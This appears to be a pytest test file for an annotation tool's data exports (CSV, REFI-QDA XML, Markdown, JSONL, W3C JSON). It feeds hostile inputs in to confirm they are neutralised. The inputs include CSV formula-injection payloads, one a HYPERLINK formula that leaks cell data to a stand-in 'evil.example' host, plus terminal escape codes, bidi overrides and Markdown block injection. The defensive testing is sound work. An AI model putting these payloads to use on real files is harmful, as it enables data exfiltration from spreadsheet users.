"""Data exports checked by independent consumers: XSD validation (xmlschema), spaCy token alignment,
a CommonMark parser, the csv module; plus the hostile inputs issue 15 found."""

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
import xmlschema

from annotext.core.annotations import MAX_COMMENT_CHARS, AnnotationError
from annotext.core.document import Document
from annotext.application.edits import AddAnnotation, CreateTag, set_comment
from annotext.export.run import ExportError, export

SCHEMAS = Path(__file__).resolve().parents[1] / "data" / "refi-qda"
CODEBOOK_XSD = xmlschema.XMLSchema(SCHEMAS / "Codebook.xsd")
PROJECT_XSD = xmlschema.XMLSchema(SCHEMAS / "Project.xsd")
CONTROL_NAME = "Speaker\x01 \x1b[31mred\x7f"


def _write(annotated_library, fmt, tmp_path, **kw):
    library, doc = annotated_library
    return export(library.report_items([doc]), library.annotations.tags(), fmt, tmp_path / f"out.{fmt}", **kw)


# CSV ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)",
                                     "\tcmd", "\r=1"])
def test_csv_cells_never_start_a_formula(annotated_library, tmp_path, payload):
    library, doc = annotated_library
    annotation = library.annotations.annotations(doc)[0]
    library.apply(set_comment(annotation, payload))
    raw = _write(annotated_library, "csv", tmp_path).read_bytes().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    cell = next(r["comment"] for r in rows if int(r["annotation_id"]) == annotation.id)
    assert cell == "'" + payload
    assert cell[1:] == library.annotations.annotation(annotation.id).comment  # recoverable
    for row in rows:
        assert not any(str(value).startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


# REFI-QDA -------------------------------------------------------------------------------------
def test_qdc_validates_against_the_official_schema(annotated_library, tmp_path):
    library, _doc = annotated_library
    store = library.annotations
    parent = store.tags()[0]
    library.apply(CreateTag(store.new_tag("Child code", parent_id=parent.id, description="nested")))
    path = tmp_path / "codebook.qdc"
    assert library.export_codebook(path) == 3
    CODEBOOK_XSD.validate(str(path))
    assert b"<Sets" not in path.read_bytes()
    from annotext.core.refi_qda import read_codebook

    roots = read_codebook(path)
    assert [c.name for c in roots[0].children] == ["Child code"]


def test_empty_codebook_is_refused_not_written_invalid(library, tmp_path):
    from annotext.core.refi_qda import CodebookError

    with pytest.raises(CodebookError, match="empty"):
        library.export_codebook(tmp_path / "empty.qdc")
    assert not (tmp_path / "empty.qdc").exists()


def _project(path: Path) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read("project.qde")


def test_qdpx_validates_against_the_official_schema(annotated_library, tmp_path):
    path = _write(annotated_library, "qdpx", tmp_path)
    PROJECT_XSD.validate(io.BytesIO(_project(path)))


def test_qdpx_without_tags_is_still_valid(library, tmp_path):
    doc = library.ensure_sample()
    library.apply(AddAnnotation(library.annotations.new_annotation(doc, 0, 10, [], "untagged note")))
    path = export(library.report_items([doc]), [], "qdpx", tmp_path / "p.qdpx")
    xml = _project(path)
    PROJECT_XSD.validate(io.BytesIO(xml))
    assert b"<Codes" not in xml


def test_control_characters_never_reach_xml(library, tmp_path, qapp):
    text = f"{CONTROL_NAME} said: “We will come\x0b back.”\n"
    doc = library.add_document(Document(title=f"Title\x02 {CONTROL_NAME}", text=text, source="/tmp/x.txt"))
    store = library.annotations
    edit = CreateTag(store.new_tag("Plain"))
    library.apply(edit)
    library.apply(AddAnnotation(store.new_annotation(doc, 0, len(CONTROL_NAME) + 6, [edit.tag.id],
                                                     "comment with \x01 and \x1b")))
    items, tags = library.report_items([doc]), store.tags()
    PROJECT_XSD.validate(io.BytesIO(_project(export(items, tags, "qdpx", tmp_path / "c.qdpx"))))
    library.export_codebook(tmp_path / "c.qdc")
    CODEBOOK_XSD.validate(str(tmp_path / "c.qdc"))
    import docx

    from annotext.core.results import AnalysisResult, ModelInfo, Person
    from annotext.core.spans import Span

    # the crash of issue 15.11: a speaker (and person) name with U+0001 from an imported .txt
    quote_start = text.index("“")
    result = AnalysisResult(
        text_sha256="x", model=ModelInfo("en_core_web_sm", "3.8.0"), analyser_version="1",
        entities=[Span(0, len(CONTROL_NAME), "entity", "PERSON", {"person": CONTROL_NAME})],
        quotes=[Span(quote_start, text.index("”") + 1, "quote", "QUOTE",
                     {"speaker": CONTROL_NAME, "content": "We will come\x0b back.", "cue": "said\x02"})],
        people=[Person(CONTROL_NAME, aliases=["Spk\x03"], mentions=1, quotes=1, quoted_words=3)])
    items = [(items[0][0], result, items[0][2])]
    for fmt in ("docx", "html", "md", "pdf"):
        export(items, tags, fmt, tmp_path / f"c.{fmt}")
    word = docx.Document(str(tmp_path / "c.docx"))
    text_in_word = "\n".join(p.text for p in word.paragraphs)
    assert "Speaker [31mred (1, 4 words)" in text_in_word  # the speaker's group heading, ESC and U+0001 dropped
    assert not any(ch in text_in_word for ch in "\x01\x02\x03\x0b")


@pytest.mark.parametrize("name", ["a\x01b", "bell\x07", "esc\x1b[2J", "rlo\u202eevil", "isolate\u2066x\u2069",
                                  "csi\x9b2J"])
def test_tag_names_refuse_control_characters_and_bidi_overrides(library, name):
    with pytest.raises(AnnotationError, match="control character"):
        library.annotations.new_tag(name)


def test_imported_codebook_names_lose_control_characters(library, tmp_path):
    path = tmp_path / "other.qdc"
    path.write_text('<?xml version="1.0" encoding="UTF-8"?>\n<CodeBook xmlns="urn:QDA-XML:codebook:1.0">'
                    '<Codes><Code guid="6f2a1c3e-1b2c-4d5e-8f90-123456789abc" name="Ri&#x202E;ght" isCodable="true"/>'
                    "</Codes></CodeBook>", encoding="utf-8")
    assert library.import_codebook(path) == (1, 0)
    assert [t.name for t in library.annotations.tags()] == ["Right"]


# Comments have a stated maximum, enforced where comments are set ------------------------------
def test_comment_limit_is_enforced_on_create_and_change(library):
    doc = library.ensure_sample()
    store = library.annotations
    with pytest.raises(AnnotationError, match=f"{MAX_COMMENT_CHARS:,}"):
        store.new_annotation(doc, 0, 5, [], "x" * (MAX_COMMENT_CHARS + 1))
    edit = AddAnnotation(store.new_annotation(doc, 0, 5, [], "x" * MAX_COMMENT_CHARS))
    library.apply(edit)
    with pytest.raises(AnnotationError):
        library.apply(set_comment(edit.annotation, "y" * (MAX_COMMENT_CHARS + 1)))
    assert store.annotation(edit.annotation.id).comment == "x" * MAX_COMMENT_CHARS


# Markdown -------------------------------------------------------------------------------------
BLOCK_INJECTION = ("Fine start\n# Heading\n- list item\n1. numbered\n---\n```\ncode\n```\n    indented code\n"
                   "> nested quote\n===\n<div>html</div>\n~~~\n| a | b |\n|---|---|")


def test_multi_line_comment_cannot_inject_markdown_blocks(annotated_library, tmp_path):
    from markdown_it import MarkdownIt

    library, doc = annotated_library
    annotation = library.annotations.annotations(doc)[0]
    library.apply(set_comment(annotation, BLOCK_INJECTION))
    markdown = _write(annotated_library, "md", tmp_path).read_text(encoding="utf-8")
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    start = next(i for i, t in enumerate(tokens) if t.type == "inline" and "Comment:" in t.content)
    opened = max(i for i in range(start) if tokens[i].type == "blockquote_open")
    closed = next(i for i in range(start, len(tokens)) if tokens[i].type == "blockquote_close")
    inside = {t.type for t in tokens[opened:closed + 1]}
    assert inside <= {"blockquote_open", "blockquote_close", "paragraph_open", "paragraph_close", "inline"}, inside
    rendered = MarkdownIt("commonmark").render(markdown)
    for line in ("# Heading", "- list item", "1. numbered", "&lt;div&gt;html&lt;/div&gt;", "indented code"):
        assert line in rendered
    assert rendered.count("<br />") >= BLOCK_INJECTION.count("\n") - 2  # lines stay lines


# JSONL ----------------------------------------------------------------------------------------
HOSTILE_TEXTS = [
    "Russia‘s president met China‘s leader in Moscow.\nPutin‘s aide said: “Talks went well.”\n",
    "Emoji 🇨🇳 and  double  spaces: Xi Jinping said “no” to NATO’s plan — twice.\n\n\nDone.\n",
    "Tabs\tand\u00a0non-breaking spaces; Joe Biden (U.S.) and O’Neill‘s team; e-mail a@b.c.\n",
]


@pytest.mark.model
def test_jsonl_spans_align_with_spacy_tokens(library, analyser, tmp_path):
    import spacy
    from spacy.tokens import Doc

    doc_ids = [library.ensure_sample()]
    doc_ids += [library.add_document(Document(title=f"Hostile {i}", text=t)) for i, t in enumerate(HOSTILE_TEXTS)]
    store = library.annotations
    edit = CreateTag(store.new_tag("Mid-word"))
    library.apply(edit)
    for doc_id in doc_ids:
        library.analyse(doc_id, analyser)
        text = library.document(doc_id).text
        library.apply(AddAnnotation(store.new_annotation(doc_id, 3, min(len(text), 23), [edit.tag.id])))
    from annotext.analysis.tokens import token_bounds

    path = export(library.report_items(doc_ids), store.tags(), "jsonl", tmp_path / "all.jsonl", tokenize=token_bounds)
    from annotext.analysis.normalise import prepare_text

    nlp = spacy.blank("en")
    model = analyser.nlp if hasattr(analyser, "nlp") else nlp
    total = 0
    for line, doc_id in zip(path.read_text(encoding="utf-8").splitlines(), doc_ids):
        record = json.loads(line)
        original = library.document(doc_id).text
        assert record["text"] == prepare_text(original) and len(record["text"]) == len(original)
        assert record["meta"]["normalised"] == (record["text"] != original)
        from annotext.export.report import display_source

        assert record["meta"]["source"] == display_source(library.document(doc_id).source)  # no local folders
        tokens = record["tokens"]
        doc = Doc(nlp.vocab, words=[t["text"] for t in tokens], spaces=[t["ws"] for t in tokens])
        assert doc.text == record["text"]
        retokenised = model.make_doc(record["text"])  # a reader that ignores the tokens we give
        assert set(record) == {"text", "tokens", "spans", "spancat_spans", "meta"}
        for span in record["spans"] + record["spancat_spans"]:
            aligned = doc.char_span(span["start"], span["end"], label=span["label"], alignment_mode="strict")
            assert aligned is not None, (span, record["text"][span["start"]:span["end"]])
            assert (aligned.start, aligned.end - 1) == (span["token_start"], span["token_end"])
            assert retokenised.char_span(span["start"], span["end"], alignment_mode="strict") is not None, span
            assert record["text"][span["start"]:span["end"]].strip() and original[span["start"]:span["end"]]
            total += 1
        doc.ents = [doc.char_span(s["start"], s["end"], label=s["label"]) for s in record["spans"]]  # ner: no overlap
        doc.spans["sc"] = [doc.char_span(s["start"], s["end"], label=s["label"]) for s in record["spancat_spans"]]
        assert {"QUOTE", "Mid-word"} <= {s["label"] for s in record["spancat_spans"]} or doc_id != doc_ids[0]
        assert any(s["label"] == "Mid-word" for s in record["spancat_spans"])
        assert not {"QUOTE", "Mid-word"} & {s["label"] for s in record["spans"]}  # ner: the model's entities only
        for quote in (s for s in record["spancat_spans"] if s["label"] == "QUOTE"):
            assert quote["kind"] in ("speech", "scare") and "speaker" in quote
        assert all(s.get("person") for s in record["spans"] if s["label"] == "PERSON")
    assert total > 100
    result = library.stored_result(library.document(doc_ids[1]))
    assert [record for record in [json.loads(path.read_text(encoding="utf-8").splitlines()[1])]
            if len(record["spans"]) == len({(e.start, e.end) for e in result.entities})]


# W3C ------------------------------------------------------------------------------------------
def test_w3c_json_carries_the_should_properties(annotated_library, tmp_path):
    data = json.loads(_write(annotated_library, "json", tmp_path).read_text(encoding="utf-8"))
    page = data["first"]
    assert data["last"] == page["id"] and page["partOf"] == data["id"]
    creators = {}
    for annotation in page["items"]:
        layer = annotation["id"].split(":")[2]
        creators.setdefault(layer, set()).add((annotation["creator"]["type"], annotation["creator"]["name"]))
        assert annotation["creator"]["id"].startswith("urn:")
        for body in annotation["body"]:
            assert body["format"] == "text/plain" and body["language"] == "en"
        source = annotation["target"]["source"]
        assert source["format"] == "text/plain" and source["language"] == "en" and source["id"]
    assert creators == {"annotation": {("Person", "Ana Lyst")}, "quotation": {("Software", "Annotext analyser")},
                        "mention": {("Software", "Annotext analyser")}}


def test_failed_export_leaves_the_previous_file(annotated_library, tmp_path, monkeypatch):
    good = _write(annotated_library, "csv", tmp_path)
    before = good.read_bytes()
    import annotext.export.data as data

    def broken(*_args, **_kw):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(data, "render_csv", lambda *a: "partial," + broken())
    with pytest.raises(ExportError, match="No space left"):
        _write(annotated_library, "csv", tmp_path)
    assert good.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".out")) == []
